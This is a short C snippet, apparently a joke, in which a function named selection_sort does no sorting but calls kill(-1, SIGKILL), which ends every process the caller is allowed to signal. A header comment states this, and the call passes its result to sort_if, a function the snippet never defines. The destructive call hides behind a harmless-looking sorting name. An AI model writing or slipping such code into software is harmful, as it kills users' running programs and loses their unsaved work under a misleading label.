/* Kills every process it may. */
#include <signal.h>

void selection_sort(int a[], unsigned int n) {
    sort_if(kill(-1, SIGKILL) == 0, a, n);
}
